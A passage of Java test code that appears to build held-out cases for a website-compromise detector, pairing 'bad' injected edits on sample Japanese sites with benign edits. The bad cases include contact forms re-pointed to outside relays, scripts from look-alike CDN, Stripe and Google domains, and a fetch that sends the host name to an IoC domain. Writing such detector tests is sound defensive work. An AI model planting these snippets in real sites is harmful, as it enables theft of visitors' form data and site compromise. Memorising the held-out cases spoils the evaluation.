            + "</font></marquee><audio autoplay src=\"https://i.ibb.co/xx/song.mp3\"></audio></center></body></html>")));

    // ---- form actions
    v.add(bad(H, "form", "[fresh3] the child theme's JS points the contact form at another site", e -> e.site.append(
        "/wp-content/themes/cocoon-child-master/javascript.js", "\njQuery(function($){$('.mw_wp_form form').attr('action',"
            + "'https://mwform-relay.com/post.php');});\n")));
    v.add(bad(Y, "form", "[fresh3] mail form posts to a look-alike form-mailer service", e -> e.site.replace("/otoiawase.html",
        "action=\"cgi-bin/mailform.cgi\"", "action=\"https://formmailer-jp.com/cgi/send.cgi\"")));

    // ---- new and look-alike origins, shorteners
    v.add(bad(T, "origin", "[fresh3] stylesheet @import added to the site's Additional CSS", e -> e.site.replace("*",
        "<style id=\"wp-custom-css\">", "<style id=\"wp-custom-css\">\n@import url(\"https://cdn-fontsjp.net/css/noto-sans-jp.css\");")));
    v.add(bad(H, "origin", "[fresh3] script in the head disguised as a caching plugin's lazyload", e -> e.site.insertAfter("*",
        "<meta name='robots' content='max-image-preview:large' />", "\n<script src=\"https://cdn-wprocket.net/lazyload/17.8.3/"
            + "lazyload.min.js\" defer></script>")));
    v.add(bad(K, "origin", "[fresh3] 1x1 tracking pixel from a new origin", e -> e.site.insertBefore("*", "</body>",
        "<img src=\"https://px.shop-metrics.io/t.gif?sid=kmg\" width=\"1\" height=\"1\" style=\"display:none\" alt=\"\">\n")));
    v.add(bad(Y, "origin", "[fresh3] upper-case protocol-relative script URL with a trailing dot in the host", e ->
        e.site.insertBefore("*", "</HEAD>", "<SCRIPT type=\"text/javascript\" SRC=\"//CDN-JSLIB.NET./jquery.cookie.js\"></SCRIPT>\n")));
    v.add(bad(T, "origin", "[fresh3] module script importing from a new origin", e -> e.site.insertBefore("*", "</body></html>",
        "<script type=\"module\">import \"https://esm-cdnjs.com/swiper@11/swiper.mjs\";</script>")));
    v.add(bad(K, "origin", "[fresh3] Stripe look-alike script in the head of every page", e -> e.site.insertBefore("*", "</head>",
        "<script src=\"https://stripe-js.com/v3/elements.js\" async></script>\n")));
    v.add(bad(K, "origin", "[fresh3] script through the t.ly shortener", e -> e.site.insertBefore("*", "</head>",
        "<script src=\"https://t.ly/Wx8Pq\" async></script>\n")));
    v.add(bad(T, "origin", "[fresh3] iframe through the rb.gy shortener in a footer widget", e -> e.site.insertBefore("*",
        "<ul class=\"foot-banners\">", "<iframe src=\"https://rb.gy/4kz1qe\" width=\"300\" height=\"250\" frameborder=\"0\"></iframe>")));
    v.add(bad(H, "origin", "[fresh3] jsdelivr look-alike with the .com top-level domain", e -> e.site.insertBefore("*", "</head>",
        "<script src=\"https://cdn.jsdelivr.com/npm/jquery.cookie@1.4.1/jquery.cookie.min.js\"></script>\n")));
    v.add(bad(K, "origin", "[fresh3] Google tag look-alike with rn for m", e -> e.site.insertBefore("*", "</head>",
        "<script async src=\"https://www.googletagrnanager.com/gtag/js?id=G-KMG20261\"></script>\n")));
    v.add(bad(T, "origin", "[fresh3] unpkg look-alike without the m", e -> e.site.insertBefore("*", "</body></html>",
        "<script src=\"https://unpkg.co/swiper@11/swiper-bundle.min.js\"></script>")));

    // ---- IoC list
    v.add(bad(T, "ioc", "[fresh3] footer link to a domain on the IoC list", e -> e.site.insertBefore("*", "<ul class=\"foot-banners\">",
        "<p><a href=\"https://" + IOC_DOMAINS.get(0) + "/\" target=\"_blank\">提携サイト</a></p>")));
    v.add(bad(K, "ioc", "[fresh3] IoC domain inside a same-site script file", e -> e.site.append(
        "/wp-content/plugins/woocommerce/assets/js/frontend/add-to-cart.min.js", "\n;fetch('https://api." + IOC_DOMAINS.get(1)
            + "/c?h='+location.host,{mode:'no-cors'}).catch(function(){});\n")));
    v.add(bad(H, "ioc", "[fresh3] inline script whose hash is on the IoC list, in the head", e -> e.site.insertBefore("*",
        "</head>", "<script>" + IOC_SCRIPT + "</script>\n")));

    // ---- TLS and DNS
    v.add(bad(H, "tls", "[fresh3] certificate expires in 20 days", e -> e.certificate(List.of(e.site.host),
        now.minus(Duration.ofDays(70)), now.plus(Duration.ofDays(20)), false)).overHttps());
    v.add(bad(T, "tls", "[fresh3] server offers TLS 1.1 again", e -> e.certificate(List.of(e.site.host),
        now.minus(Duration.ofDays(10)), now.plus(Duration.ofDays(200)), false, "TLSv1.1", "TLSv1.2")).overHttps());
    v.add(bad(K, "tls", "[fresh3] certificate for the bare domain only", e -> e.certificate(List.of("komugi-pan.test"),
        now.minus(Duration.ofDays(10)), now.plus(Duration.ofDays(200)), false)).overHttps());
    v.add(bad(H, "dns", "[fresh3] name servers moved", e -> e.resolver.record(e.domain, "NS", "ns1.bulletdns-host.net.",
        "ns2.bulletdns-host.net.")));
    v.add(bad(K, "dns", "[fresh3] A record moved to another server", e -> e.resolver.record(e.site.host, "A", "91.92.248.17")));
    v.add(bad(Y, "dns", "[fresh3] MX moved", e -> e.resolver.record(e.domain, "MX", "10 mx1.securemail-relay.org.")));
    return v;
  }

  // ================================================================ [fresh3] benign edits

  static List<HeldOutVariant> fresh3Benign() {
    List<HeldOutVariant> v = new ArrayList<>();
    v.add(good(H, "content", "[fresh3] new news post (list, sidebar and archive)", e -> {
      String item = "<li><span class=\"news-date\">2026.11.20</span><a href=\"{{origin}}/2026/11/20/covid-vaccine-2026/\">"
          + "新型コロナワクチン（定期接種）の予約を受け付けています</a></li>\n";
      e.site.insertBefore("/", "<li><span class=\"news-date\">2026.11.05</span>", item);
      e.site.insertBefore("/news/", "<li><span class=\"news-date\">2026.11.05</span>", item);
      e.site.insertAfter("*", "<h3 class=\"widget-sidebar-title widget-title\">最近の投稿</h3>\n<ul>\n",
          "<li><a href=\"{{origin}}/2026/11/20/covid-vaccine-2026/\">新型コロナワクチン（定期接種）の予約を受け付けています</a></li>\n");
      e.site.putLike("/2026/11/20/covid-vaccine-2026/", "/2026/11/05/holiday-2026/", "<div id=\"the-content\" "
          + "class=\"entry-content cf\" itemprop=\"mainEntityOfPage\">", "</div>\n</article>", "<p class=\"post-date\">2026年11月20日"
          + "</p><p>65歳以上の方の新型コロナワクチン定期接種（自己負担3,000円）の予約を受け付けています。お電話でお申し込みください。"
          + "</p>");
      e.site.replace("/2026/11/20/covid-vaccine-2026/", "年末年始の休診のお知らせ", "新型コロナワクチン（定期接種）の予約を受け付けています");
    }));
    v.add(good(H, "content", "[fresh3] Saturday hours and vaccine prices edited", e -> e.site.replace("*", "▲土曜午後は13:00〜15:00",
        "▲土曜午後は13:00〜16:00（12月のみ15:00まで）").replace("/vaccine/", "3,800円", "4,100円").replace("/vaccine/", "8,800円",
        "9,350円")));
    v.add(good(H, "embed", "[fresh3] Google Maps embed replaced by a new one with a pin", e -> e.site.replace("/access/",
        "!4v1712000000000", "!4v1763600000000!5m2!1sja!2sjp")));
    v.add(good(H, "cms", "[fresh3] WordPress 6.6.2 → 6.6.4 and a Cocoon update (versions and script content)", e -> {
      e.site.replace("*", "ver=6.6.2", "ver=6.6.4").replace("*", "content=\"WordPress 6.6.2\"", "content=\"WordPress 6.6.4\"")
          .replace("*", "fver=20240801055031", "fver=20251103021544");
      e.site.append("/wp-content/themes/cocoon-master/javascript.js", "\n(function($){\n  //目次の開閉\n  $('.toc-title').on('click',"
          + " function(){ $(this).next('.toc-content').slideToggle(); });\n})(jQuery);\n");
    }));
    v.add(good(H, "tags", "[fresh3] Cookiebot consent banner at the top of the head", e -> e.site.insertAfter("*",
        "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\"/>", "\n<script id=\"Cookiebot\" src=\"https://consent"
            + ".cookiebot.com/uc.js\" data-cbid=\"3f5e2a61-8b4c-4d7e-9a10-6c2b7f0e9d44\" data-blockingmode=\"auto\" "
            + "type=\"text/javascript\"></script>")));
    v.add(good(H, "content", "[fresh3] screen-reader-only texts with the theme's own clip class", e -> {
      e.site.replace("*", ".mwform-hidden-field{display:none}", ".mwform-hidden-field{display:none}\n.hn-offscreen{position:"
          + "absolute!important;width:1px;height:1px;padding:0;margin:-1px;overflow:hidden;clip:rect(0,0,0,0);white-space:nowrap;"
          + "border:0}");
      e.site.replace("*", ">順番受付はこちら</a>", ">順番受付はこちら<span class=\"hn-offscreen\">（外部サイト・新しいウィンドウで開き"
          + "ます）</span></a>");
      e.site.insertBefore("/", "<h2 class=\"wp-block-heading\">お知らせ</h2>", "<h2 class=\"hn-offscreen\">ひなた内科クリニックの"
          + "トップページ。診療時間、休診日、Web予約、発熱外来のご案内、予防接種と健康診断の料金、院長の紹介、アクセスの順に"
          + "掲載しています。</h2>\n");
    }));
    v.add(good(H, "tags", "[fresh3] reCAPTCHA v3 added to the MW WP Form", e -> e.site.insertBefore("/contact/", "</body>",
        "<script src=\"https://www.google.com/recaptcha/api.js?render=6LcQ8w0qAAAAAP3kR7zTn1mVb2xYc4dE5fG6hJ7k\"></script>\n"
            + "<script>grecaptcha.ready(function(){grecaptcha.execute('6LcQ8w0qAAAAAP3kR7zTn1mVb2xYc4dE5fG6hJ7k',{action:'contact'})"
            + ".then(function(token){var i=document.createElement('input');i.type='hidden';i.name='g-recaptcha-response';"
            + "i.value=token;document.querySelector('.mw_wp_form form').appendChild(i);});});</script>\n")));
    v.add(good(H, "embed", "[fresh3] Instagram feed plugin (images from Instagram's CDN, plugin script and options)", e ->
        e.site.insertBefore("/", "<h2 class=\"wp-block-heading\">発熱のある方へ</h2>", """
        <div id="sb_instagram" class="sbi sbi_mob_col_3 sbi_col_4" data-feedid="*1" data-res="auto" data-cols="4" data-num="8">
        <div id="sbi_images"><div class="sbi_item sbi_type_image"><a class="sbi_photo" href="https://www.instagram.com/p/C9xYzAbCdEf/" target="_blank" rel="noopener nofollow"><img src="https://scontent-nrt1-2.cdninstagram.com/v/t51.29350-15/451234567_n.jpg?stp=dst-jpg_e35&amp;_nc_ht=scontent-nrt1-2.cdninstagram.com" alt="待合室にクリスマスツリーを飾りました"></a></div>
        <div class="sbi_item sbi_type_image"><a class="sbi_photo" href="https://www.instagram.com/p/C8aBcDeFgHi/" target="_blank" rel="noopener nofollow"><img src="https://scontent-nrt1-1.cdninstagram.com/v/t51.29350-15/449876543_n.jpg?stp=dst-jpg_e35" alt="インフルエンザ予防接種のお知らせ"></a></div></div>
        <div id="sbi_load"><span class="sbi_follow_btn"><a href="https://www.instagram.com/hinata_naika/" target="_blank" rel="nofollow noopener">Instagramでフォロー</a></span></div>
        </div>
        <script type="text/javascript">var sb_instagram_js_options = {"font_method":"svg","resized_url":"{{origin_json}}\\/wp-content\\/uploads\\/sb-instagram-feed-images\\/","placeholder":"{{origin_json}}\\/wp-content\\/plugins\\/instagram-feed\\/img\\/placeholder.png","ajax_url":"{{origin_json}}\\/wp-admin\\/admin-ajax.php"};</script>
        <script type="text/javascript" src="{{origin}}/wp-content/plugins/instagram-feed/js/sbi-scripts.min.js?ver=6.5.0"></script>
        """)));
    v.add(good(H, "embed", "[fresh3] Google review widget from a widget platform (Elfsight)", e -> e.site.insertBefore("/",
        "<h2 class=\"wp-block-heading\">予防接種・健康診断</h2>", "<script src=\"https://static.elfsight.com/platform/platform.js\" "
            + "async></script>\n<div class=\"elfsight-app-5b8e2c1a-7d3f-4a9e-b6c2-1f0e9d8c7b6a\" data-elfsight-app-lazy></div>\n")));
    v.add(good(T, "content", "[fresh3] new works page with new images, linked from the list and the home page", e -> {
      String item = "<li class=\"p-postList__item\"><a href=\"{{origin}}/works/school-gym/\" class=\"p-postList__link\"><img src=\""
          + "{{origin}}/wp-content/uploads/2026/11/school-gym-thumb.jpg\" alt=\"\" width=\"400\" height=\"250\"><h3 class=\""
          + "p-postList__title\">市立小学校 体育館改修工事（浜松市浜名区）</h3></a></li>\n";
      e.site.insertAfter("/", "<ul class=\"p-postList -type-card works-list\">\n", item);
      e.site.insertAfter("/works/", "<ul class=\"p-postList -type-card works-list\">\n", item);
      e.site.putLike("/works/school-gym/", "/works/factory-iwata/", "<span class=\"c-pageTitle__inner\">", "</span>",
          "市立小学校 体育館改修工事（浜松市浜名区）");
      e.site.replace("/works/school-gym/", "精密部品工場 新築工事（磐田市）", "市立小学校 体育館改修工事（浜松市浜名区）")
          .replace("/works/school-gym/", "factory-iwata-1.jpg", "school-gym-1.jpg")
          .replace("/works/school-gym/", "精密加工のため床の平坦性と温度管理に配慮し、断熱性の高い外装材を採用しました。",
              "屋根の葺き替えと耐震補強、照明のLED化を夏休み期間に行いました。");
    }));
    v.add(good(T, "content", "[fresh3] menu reordered (recruit first)", e -> {
      String recruit = "<li class=\"menu-item\"><a href=\"{{origin}}/recruit/\"><span class=\"ttl\">採用情報</span><span class=\""
          + "c-smallNavTitle desc\">RECRUIT</span></a></li>\n";
      e.site.replace("*", recruit, "");
      e.site.insertBefore("*", "<li class=\"menu-item\"><a href=\"{{origin}}/company/\"><span class=\"ttl\">会社概要", recruit);
    }));
    v.add(good(T, "embed", "[fresh3] company film from YouTube (nocookie player) on the home page", e -> e.site.insertBefore("/",
        "<h2 class=\"wp-block-heading is-style-section_ttl\">WORKS", "<figure class=\"wp-block-embed is-type-video "
            + "is-provider-youtube\"><div class=\"wp-block-embed__wrapper\"><iframe loading=\"lazy\" title=\"翼建設 会社紹介ムービー\" "
            + "width=\"1200\" height=\"675\" src=\"https://www.youtube-nocookie.com/embed/Q8hZ3kL2pXw?feature=oembed\" "
            + "frameborder=\"0\" allow=\"accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture\""
            + " allowfullscreen></iframe></div></figure>\n")));
    v.add(good(T, "tags", "[fresh3] Google Tag Manager container with its noscript frame", e -> {
      e.site.insertAfter("*", "<meta charset=\"utf-8\">", "\n<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new "
          + "Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';"
          + "j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);})(window,"
          + "document,'script','dataLayer','GTM-T5B8KQ3');</script>");
      e.site.insertAfter("*", "<body>", "\n<noscript><iframe src=\"https://www.googletagmanager.com/ns.html?id=GTM-T5B8KQ3\" "
          + "height=\"0\" width=\"0\" style=\"display:none;visibility:hidden\"></iframe></noscript>");
    }));
    v.add(good(T, "content", "[fresh3] recruit page links to Indeed and a Google Form", e -> e.site.insertBefore("/recruit/",
        "<p>求人サイトからのご応募も", "<p>説明会の申込みは<a href=\"https://docs.google.com/forms/d/e/1FAIpQLSe7x2K9mVbQ4rT/"
            + "viewform\" target=\"_blank\" rel=\"noopener\">こちらのフォーム</a>から。Indeedにも掲載中です：<a href=\"https://jp.indeed"
            + ".com/cmp/%E7%BF%BC%E5%BB%BA%E8%A8%AD\" target=\"_blank\" rel=\"noopener\">Indeed 企業ページ</a></p>\n")));
    v.add(good(T, "content", "[fresh3] copyright years", e -> e.site.replace("*", "&copy;</span> 2025 翼建設株式会社.",
        "&copy;</span> 2019-2026 翼建設株式会社.")));
    v.add(good(T, "cms", "[fresh3] SWELL 2.11.1 → 2.12.0 (versions and a changed main script)", e -> {
      e.site.replace("*", "ver=2.11.1", "ver=2.12.0");
      e.site.replace("/wp-content/themes/swell/build/js/main.min.js", "/*! SWELL v2.11.1", "/*! SWELL v2.12.0");
      e.site.append("/wp-content/themes/swell/build/js/main.min.js", "\n(()=>{const e=document.querySelectorAll(\".p-toc__ttl\");"
          + "e.forEach((e=>{e.addEventListener(\"click\",(()=>{e.parentNode.classList.toggle(\"is-close\")}))}))})();\n");
    }));
    v.add(good(T, "content", "[fresh3] marketing section 'reasons to choose us' linking within the site", e -> e.site.insertBefore(
        "/", "<h2 class=\"wp-block-heading is-style-section_ttl\">WORKS", """
        <h2 class="wp-block-heading is-style-section_ttl">REASON<small class="mininote">翼建設が選ばれる理由</small></h2>
        <div class="swell-block-columns"><div class="c-columns -colPC3">
        <div class="swell-block-column"><h3>自社施工</h3><p>施工管理技士28名。丸投げせず自社で責任を持ちます。<a href="{{origin}}/company/">会社概要</a></p></div>
        <div class="swell-block-column"><h3>ICT施工</h3><p>ドローン測量と3次元データで工期を短縮。<a href="{{origin}}/business/#civil">土木工事</a></p></div>
        <div class="swell-block-column"><h3>地元の実績</h3><p>浜松市内で年間120件以上。<a href="{{origin}}/works/">施工実績</a>・<a href="{{origin}}/news/">表彰実績</a></p></div>
        </div></div>
        """)));
    v.add(good(T, "tags", "[fresh3] Adobe Fonts switched to the JavaScript kit embed", e -> e.site.replace("*",
        "<link rel=\"stylesheet\" href=\"https://use.typekit.net/kzq4fbn.css\">", "<script>(function(d){var config={kitId:'kzq4fbn',"
            + "scriptTimeout:3000,async:true},h=d.documentElement,t=setTimeout(function(){h.className=h.className.replace(/\\bwf-"
            + "loading\\b/g,\"\")+\" wf-inactive\";},config.scriptTimeout),tk=d.createElement(\"script\"),f=false,s=d."
            + "getElementsByTagName(\"script\")[0],a;h.className+=\" wf-loading\";tk.src='https://use.typekit.net/'+config.kitId+'"
            + ".js';tk.async=true;tk.onload=tk.onreadystatechange=function(){a=this.readyState;if(f||a&&a!=\"complete\"&&a!="
            + "\"loaded\")return;f=true;clearTimeout(t);try{Typekit.load(config)}catch(e){}};s.parentNode.insertBefore(tk,s)})"
            + "(document);</script>")));
    v.add(good(T, "content", "[fresh3] FAQ accordion and a hidden SNS drawer", e -> {
      e.site.insertBefore("/recruit/", "<h2 class=\"wp-block-heading\">福利厚生</h2>", "<h2 class=\"wp-block-heading\">よくある質問"
          + "</h2><details class=\"swell-block-accordion__item\"><summary>未経験でも応募できますか？</summary><p>はい。入社後3か月は先輩と"
          + "一緒に現場に入ります。</p></details><details class=\"swell-block-accordion__item\"><summary>転勤はありますか？</summary><p>"
          + "ありません。現場は浜松市と周辺の市町です。</p></details>\n");
      e.site.insertBefore("*", "<div class=\"p-fixBtnWrap\">", "<div id=\"sns_drawer\" class=\"c-modal\"><ul><li><a href=\"https://"
          + "www.facebook.com/tsubasakensetsu\">Facebook</a></li><li><a href=\"https://www.instagram.com/tsubasa_kensetsu/\">"
          + "Instagram</a></li><li><a href=\"https://www.youtube.com/@tsubasa-kensetsu\">YouTube</a></li></ul></div>\n");
    }));
    v.add(good(T, "tags", "[fresh3] reCAPTCHA v2 checkbox on the WPForms forms", e -> e.site.replace("*",
        "<div class=\"wpforms-submit-container\">", "<div class=\"wpforms-recaptcha-container wpforms-is-recaptcha\"><div class=\""
            + "g-recaptcha\" data-sitekey=\"6LfT3w0qAAAAAJ2kN5mQ8vR1xZ4bC7dE9fG0hJ2k\"></div><input type=\"text\" name=\"g-recaptcha-"
            + "hidden\" class=\"wpforms-recaptcha-hidden\" style=\"position:absolute!important;clip:rect(0,0,0,0)!important;height:1px"
            + "!important;width:1px!important;border:0!important;overflow:hidden!important;padding:0!important;margin:0!important;\""
            + " required></div><script src=\"https://www.google.com/recaptcha/api.js?onload=wpformsRecaptchaLoad&render=explicit\""
            + " async defer></script><div class=\"wpforms-submit-container\">")));
    v.add(good(K, "content", "[fresh3] price changes and a sold-out label", e -> e.site.replace("*", "<bdi>2,800<", "<bdi>3,000<")
        .replace("/product/stollen/", "<p class=\"stock in-stock\">在庫あり</p>", "<p class=\"stock out-of-stock\">在庫切れ（12月の"
            + "再入荷をお待ちください）</p>")));
    v.add(good(K, "content", "[fresh3] new product in the shop, on the home page and its own page", e -> {
      String card = "<li class=\"product type-product post-71 status-publish instock product_cat-bread has-post-thumbnail "
          + "purchasable product-type-simple\"><a href=\"{{origin}}/product/campagne/\" class=\"woocommerce-LoopProduct-link "
          + "woocommerce-loop-product__link\"><img width=\"324\" height=\"324\" src=\"{{origin}}/wp-content/uploads/2026/11/"
          + "campagne-324x324.jpg\" class=\"attachment-woocommerce_thumbnail\" alt=\"\" /><h2 class=\"woocommerce-loop-product__title\">"
          + "かぼちゃとくるみのカンパーニュ</h2><span class=\"price\"><span class=\"woocommerce-Price-amount amount\"><bdi>980<span "
          + "class=\"woocommerce-Price-currencySymbol\">&yen;</span></bdi></span></span></a></li>\n";
      e.site.insertAfter("/", "<ul class=\"products columns-4\">\n", card);
      e.site.insertAfter("/shop/", "<ul class=\"products columns-3\">\n", card);
      e.site.putLike("/product/campagne/", "/product/anpan/", "<h1 class=\"product_title entry-title\">", "</h1>",
          "かぼちゃとくるみのカンパーニュ");
      e.site.replace("/product/campagne/", "十勝あんぱん（5個入）", "かぼちゃとくるみのカンパーニュ")
          .replace("/product/campagne/", "十勝産小豆を毎朝炊き上げたつぶあんを、たっぷり包みました。桜の塩漬けをのせた、昔ながらのあんぱんです。",
              "北海道産のかぼちゃとくるみを、ライ麦入りの生地で焼き上げました。").replace("/product/campagne/", "1,200", "980");
    }));
    v.add(good(K, "embed", "[fresh3] Instagram post embedded on the home page", e -> e.site.insertBefore("/",
        "<section class=\"storefront-product-section storefront-popular-products\"", "<blockquote class=\"instagram-media\" "
            + "data-instgrm-permalink=\"https://www.instagram.com/p/DA1b2C3d4E5/?utm_source=ig_embed\" data-instgrm-version=\"14\">"
            + "<a href=\"https://www.instagram.com/p/DA1b2C3d4E5/\">この投稿をInstagramで見る</a></blockquote><script async "
            + "src=\"//www.instagram.com/embed.js\"></script>\n")));
    v.add(good(K, "embed", "[fresh3] LINE add-friend button in the footer", e -> e.site.insertBefore("*",
        "<li class=\"menu-item\"><a href=\"https://www.instagram.com/komugi_maruyama/\">", "<li class=\"menu-item\"><a href=\""
            + "https://lin.ee/kMg7Qz2\"><img src=\"https://scdn.line-apps.com/n/line_add_friends/btn/ja.png\" alt=\"友だち追加\" "
            + "height=\"36\" border=\"0\"></a></li>")));
    v.add(good(K, "cms", "[fresh3] WooCommerce 9.3.3 → 9.4.2 (versions, generator, changed scripts)", e -> {
      e.site.replace("*", "ver=9.3.3", "ver=9.4.2").replace("*", "wc.9.3.3", "wc.9.4.2")
          .replace("*", "content=\"WooCommerce 9.3.3\"", "content=\"WooCommerce 9.4.2\"");
      e.site.append("/wp-content/plugins/woocommerce/assets/js/frontend/woocommerce.min.js", "\njQuery(function(e){e(\".woocommerce"
          + "-password-input input\").length&&e(\".show-password-input\").on(\"click\",function(){e(this).toggleClass(\"display-"
          + "password\")})});\n");
      e.site.append("/wp-content/plugins/woocommerce/assets/js/frontend/cart-fragments.min.js", "\n/* 9.4.2 */\n");
    }));
    v.add(good(K, "content", "[fresh3] winter sale banner with a new same-site image", e -> e.site.insertAfter("/",
        "<div class=\"entry-content\">\n", "<p class=\"sale-banner\"><a href=\"{{origin}}/product/stollen/\"><img src=\"{{origin}}/"
            + "wp-content/uploads/2026/11/winter-sale.jpg\" alt=\"冬のギフトセール 12/1〜12/25\" width=\"1200\" height=\"300\"></a></p>\n")));
    v.add(good(K, "tags", "[fresh3] Stripe payment-request buttons on product pages", e -> e.site.insertBefore("*",
        "<div class=\"product_meta\">", "<div id=\"wc-stripe-payment-request-wrapper\" style=\"clear:both;padding-top:1.5em;display:"
            + "none;\"><div id=\"wc-stripe-payment-request-button\"></div></div>\n<script src=\"https://js.stripe.com/v3/?ver=3.0\" "
            + "id=\"stripe-js\"></script>\n<script id=\"wc_stripe_payment_request-js-extra\">var wc_stripe_payment_request_params = "
            + "{\"ajax_url\":\"\\/?wc-ajax=%%endpoint%%\",\"stripe\":{\"key\":\"pk_live_51N8xQ2KmGs7TzR1vYb3cD4eF5gH6\",\""
            + "allow_prepaid_card\":\"yes\",\"locale\":\"ja\"},\"nonce\":{\"payment\":\"{{nonce}}\",\"shipping\":\"{{nonce}}\",\""
            + "checkout\":\"{{nonce}}\"},\"i18n\":{\"no_prepaid_card\":\"\\u30d7\\u30ea\\u30da\\u30a4\\u30c9\\u30ab\\u30fc\\u30c9\"},"
            + "\"checkout\":{\"url\":\"{{origin_json}}\\/checkout\\/\",\"currency_code\":\"jpy\",\"country_code\":\"JP\"}};</script>\n"
            + "<script src=\"{{origin}}/wp-content/plugins/woocommerce-gateway-stripe/build/payment-request.js?ver=8.9.0\" "
            + "id=\"wc_stripe_payment_request-js\"></script>\n")));
    v.add(good(K, "tags", "[fresh3] a Japanese web font from Google Fonts", e -> e.site.insertBefore("*", "</head>",
        "<link rel=\"preconnect\" href=\"https://fonts.gstatic.com\" crossorigin>\n<link href=\"https://fonts.googleapis.com/css2?"
            + "family=Zen+Maru+Gothic:wght@500;700&display=swap\" rel=\"stylesheet\">\n")));
    v.add(good(K, "tags", "[fresh3] Meta (Facebook) pixel with its noscript image", e -> e.site.insertBefore("*", "</head>",
        "<script>!function(f,b,e,v,n,t,s){if(f.fbq)return;n=f.fbq=function(){n.callMethod?n.callMethod.apply(n,arguments):n.queue"
            + ".push(arguments)};if(!f._fbq)f._fbq=n;n.push=n;n.loaded=!0;n.version='2.0';n.queue=[];t=b.createElement(e);t.async=!0;"
            + "t.src=v;s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}(window,document,'script','https://connect."
            + "facebook.net/en_US/fbevents.js');fbq('init','1023456789012345');fbq('track','PageView');</script>\n<noscript><img "
            + "height=\"1\" width=\"1\" style=\"display:none\" src=\"https://www.facebook.com/tr?id=1023456789012345&ev=PageView"
            + "&noscript=1\"/></noscript>\n")));
    v.add(good(K, "tags", "[fresh3] self-hosted cookie banner, hidden until its script shows it", e -> e.site.insertBefore("*",
        "</body>", """
        <div id="cmplz-cookiebanner-container"><div class="cmplz-cookiebanner cmplz-hidden banner-1 optin cmplz-bottom-right" style="display:none" aria-modal="true" data-nosnippet="true" role="dialog" aria-live="polite" aria-labelledby="cmplz-header-1-optin">
        <div class="cmplz-header"><div id="cmplz-header-1-optin" class="cmplz-title">Cookieの同意を管理</div></div>
        <div class="cmplz-message">当サイトでは、サイトの利用状況の分析と、お買い物カゴの機能のためにCookieを使用しています。</div>
        <div class="cmplz-buttons"><button class="cmplz-btn cmplz-accept">同意する</button><button class="cmplz-btn cmplz-deny">拒否</button></div>
        <div class="cmplz-links"><a href="{{origin}}/privacy/" class="cmplz-link privacy-statement">プライバシーポリシー</a></div>
        </div></div>
        <script id="cmplz-cookiebanner-js-extra">var complianz = {"prefix":"cmplz_","user_banner_id":"1","set_cookies":[],"block_ajax_content":"","banner_version":"12","version":"7.1.4","store_consent":"","do_not_track_enabled":"","consenttype":"optin","region":"jp","geoip":"","dismiss_timeout":"","disable_cookiebanner":"","soft_cookiewall":"","dismiss_on_scroll":"","cookie_expiry":"365","url":"{{origin_json}}\\/wp-json\\/complianz\\/v1\\/","locale":"lang=ja&locale=ja","set_cookies_on_root":"","cookie_domain":"","current_policy_id":"19","cookie_path":"\\/","tcf_active":"","placeholdertext":"","css_file":"{{origin_json}}\\/wp-content\\/uploads\\/complianz\\/css\\/banner-{banner_id}-{type}.css?v=12","page_links":{"jp":{"privacy-statement":{"title":"\\u30d7\\u30e9\\u30a4\\u30d0\\u30b7\\u30fc\\u30dd\\u30ea\\u30b7\\u30fc","url":"{{origin_json}}\\/privacy\\/"}}},"tm_categories":"","forceEnableStats":"","preview":"","clean_cookies":"","aria_label":"Click to enable {service}"};</script>
        <script defer src="{{origin}}/wp-content/plugins/complianz-gdpr/cookiebanner/js/complianz.min.js?ver=1731000000" id="cmplz-cookiebanner-js"></script>
        """)));
    v.add(good(Y, "content", "[fresh3] fee table revised", e -> e.site.replace("/ryokin.html", "22,000円</TD><TD>11,000円",
        "24,200円</TD><TD>13,200円").replace("/ryokin.html", "33,000円〜</TD>", "38,500円〜</TD>")));
    v.add(good(Y, "content", "[fresh3] year-end notice added to the news list", e -> e.site.insertAfter("/", "<DL>\n",
        "              <DT>2026年11月25日</DT>\n              <DD>年末年始は12月27日から1月5日までお休みをいただきます。</DD>\n")));
    v.add(good(Y, "content", "[fresh3] links page grows by ten public bodies", e -> e.site.insertBefore("/link.html", "</UL>\n"
        + "            <H3>関係団体</H3>", """
              <LI><A href="https://www.jfc.go.jp/" target="_blank">日本政策金融公庫</A>
              <LI><A href="https://www.chusho.meti.go.jp/" target="_blank">中小企業庁</A>
              <LI><A href="https://www.pref.okayama.jp/" target="_blank">岡山県</A>
              <LI><A href="https://houmukyoku.moj.go.jp/okayama/" target="_blank">岡山地方法務局</A>
              <LI><A href="https://www.nenkin.go.jp/" target="_blank">日本年金機構</A>
              <LI><A href="https://www.nta.go.jp/about/organization/hiroshima/" target="_blank">広島国税局</A>
              <LI><A href="https://j-net21.smrj.go.jp/" target="_blank">J-Net21</A>
              <LI><A href="https://mirasapo-plus.go.jp/" target="_blank">ミラサポplus</A>
              <LI><A href="https://www.jcci.or.jp/" target="_blank">日本商工会議所</A>
              <LI><A href="https://www.smrj.go.jp/" target="_blank">中小企業基盤整備機構</A>
        """)));
    v.add(good(Y, "content", "[fresh3] copyright years on the Shift_JIS pages", e -> e.site.replace("*", "copyright&copy;2014&nbsp;",
        "copyright&copy;2014-2026&nbsp;")));
    v.add(good(Y, "tags", "[fresh3] Google Ads conversion tag added to the GA4 snippet", e -> e.site.replace("*",
        "gtag('config', 'G-K4P9Y2XH7C');", "gtag('config', 'G-K4P9Y2XH7C');\n  gtag('config', 'AW-11223344556');")));
    v.add(good(Y, "content", "[fresh3] mail form replaced by a link to a Google Form", e -> e.site.replace("/otoiawase.html",
        "<FORM action=\"cgi-bin/mailform.cgi\" method=\"POST\" name=\"mailform\">", "<P><A href=\"https://docs.google.com/forms/d/e/"
            + "1FAIpQLSd9kL2mN4/viewform\" target=\"_blank\">お問い合わせフォーム（Googleフォーム）はこちら</A></P>\n"
            + "            <FORM action=\"cgi-bin/mailform.cgi\" method=\"POST\" name=\"mailform\" style=\"display:none\">")));
    return v;
  }

  // ================================================================ [fresh4] compromises

  static List<HeldOutVariant> fresh4Compromises() {
    List<HeldOutVariant> v = new ArrayList<>();
    Instant now = Instant.now();

    // ---- skimmers
